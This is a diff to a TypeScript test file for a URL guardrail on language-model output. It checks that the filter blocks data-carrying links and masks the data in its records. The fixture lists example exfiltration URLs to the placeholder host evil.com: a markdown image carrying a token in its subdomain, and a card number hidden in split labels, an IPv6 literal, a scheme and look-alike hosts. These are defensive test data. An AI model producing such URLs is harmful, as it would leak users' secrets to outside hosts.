@@ -15,9 +15,13 @@ import { urlFilter } from './url-filter';
 describe('urlFilter records: hosts carrying data', () => {
   const answer =
     'see ![x](https://ghp-R7pQ2mX9vL4kT8wZ3nB6cF1hJ5sD0aY2eU7i.evil.com/a.png), ' +
-    'https://4111111111111111.evil.com:8443/x, https://xn--80ak6aa92e.com and https://docs.evil.com';
+    'https://4111111111111111.evil.com:8443/x, https://xn--80ak6aa92e.com and https://docs.evil.com' +
+    // Round 18: the value split over short labels, in an IPv6 literal, in a
+    // scheme, in a look-alike subdomain.
+    ' https://4111.1111.1111.1111.evil.com/p https://jane.doe.corp.io.evil.co.uk/p' +
+    ' https://[4111:1111:1111:1111::]/p x4111111111111111://evil.com/p https://xn--80ak6aa92e.evil.com/p';
 
-  it('generateText: the record shows each label that may carry data as *, and nothing else of it', async () => {
+  it('generateText: the record shows the registrable domain alone, each label that may carry data as *', async () => {
     const result = await generateText({
       model: wrapLanguageModel({
         model: textModel(answer),
@@ -37,9 +41,14 @@ describe('urlFilter records: hosts carrying data', () => {
             url: 'https://xn--80ak6aa92e.com',
             rule: 'host "xn--80ak6aa92e.com" ("аррӏе") looks like a homograph',
           },
-          { url: 'https://docs.evil.com', rule: 'host "docs.evil.com" is not on the allow list' },
+          { url: 'https://*.evil.com', rule: 'host "*.evil.com" is not on the allow list' },
+          { url: 'https://*.evil.com', rule: 'host "*.evil.com" is not on the allow list' },
+          { url: 'https://*.evil.co.uk', rule: 'host "*.evil.co.uk" is not on the allow list' },
+          { url: 'https://[*]', rule: 'host "[*]" is not on the allow list' },
+          { url: '*://evil.com', rule: 'scheme "*" is not allowed' },
+          { url: 'https://*.evil.com', rule: 'host "*.evil.com" looks like a homograph' },
         ],
-        count: 4,
+        count: 9,
       },
     });
   });
@@ -58,6 +67,6 @@ describe('urlFilter records: hosts carrying data', () => {
     expect(error).toBeInstanceOf(GuardrailTripwireError);
     const serialised = JSON.stringify(error, Object.getOwnPropertyNames(error));
     expect(serialised).toContain('*.evil.com');
-    expect(serialised).not.toMatch(/4111111111111111|r7pq2mx9/i);
+    expect(serialised).not.toMatch(/4111111111111111|r7pq2mx9|4111[.:]1111|jane|doe/i);
   });
 });
